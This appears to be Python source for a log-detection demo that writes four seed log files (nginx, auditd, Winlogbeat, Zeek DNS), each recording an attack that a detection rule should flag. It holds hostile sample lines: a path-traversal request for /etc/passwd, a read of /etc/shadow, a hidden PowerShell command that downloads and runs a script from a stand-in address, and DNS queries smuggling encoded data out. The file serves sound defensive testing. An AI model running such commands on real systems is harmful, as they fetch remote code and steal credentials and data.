"""The folder `attack/`: a file for each of four formats, and a line for each that raises an alert.

Whoever tries the demo pastes lines of the own choice there; these are only to begin with.
"""

import glob
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from app.demo.lines import Execution, Request
from app.demo.logs import KINDS, Act, What, lines_of
from app.demo.places import Host
from app.demo.windows import Started, started
from app.demo.world import World
from app.demo.zeek import Question
from app.settings import InputSettings
from haidang.model.instant import Instant

FOLDER = "attack"

_ENRICHED = re.compile(rb"\x1d.*")
_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"
_CARRIED = "mf2gkzdfoqqhgzlsnfsw4y3febqw4zbamvxggzlnn5xgk3dboruw6zl"


@dataclass(frozen=True, slots=True)
class Sample:
    """A file of the folder: what it takes, of which host, and lines that it could take now."""

    file: str
    about: str
    host: Host
    operator: str
    what: What

    def lines(self, moment: Instant) -> bytes:
        """The lines as the host would log them at that moment, fit to be copied from a screen.

        Of audit records that is `log_format = RAW`: enriched ones hold a control character.
        """
        [made] = lines_of(0, [Act(moment, self.host.name, self.what)]).values()
        return _ENRICHED.sub(b"", b"".join(line for _, line in made))


def samples(world: World, moment: Instant) -> Iterator[Sample]:
    """The four files; each act is one that a rule of ours knows."""
    asked = Request("203.0.113.9", "/tai-ve?tep=../../../../etc/passwd", "curl/8.5.0", size=1833)
    read = Execution("/usr/bin/cat", ("cat", "/etc/shadow"), "www-data", 4242, 4241)
    fetched = Started("ketoan", "0x5a1", _SHELL, f'powershell -nop -w hidden -c "{_FETCH}"')
    village = world.village
    station = village.stations[0].address
    carried = Question(station, village.router.address, f"{_CARRIED}.du-lieu.example", kind="TXT")
    ours = world.operator
    yield Sample("nginx.access.log", "nginx, combined", world.web, ours, asked)
    yield Sample("auditd.log", "auditd, log_format = RAW", world.web, ours, read)
    windows = world.windows[0]
    yield Sample("winlogbeat.ndjson", "Winlogbeat", windows, ours, started(moment, fetched))
    yield Sample("dns.log", "Zeek dns, JSON", village.sensor, village.unit.id, carried)


def inputs(world: World, folder: Path) -> tuple[InputSettings, ...]:
    """What collects the files of `folder`, the world's."""
    return tuple(
        InputSettings(
            name=f"{FOLDER}-{KINDS[type(one.what)].input}",
            path=f"{glob.escape(str(folder.absolute()))}/{FOLDER}/{one.file}",
            dataset=KINDS[type(one.what)].dataset,
            operator=one.operator,
            zone=one.host.zone,
            host=one.host.name,
        )
        for one in samples(world, 0)
    )
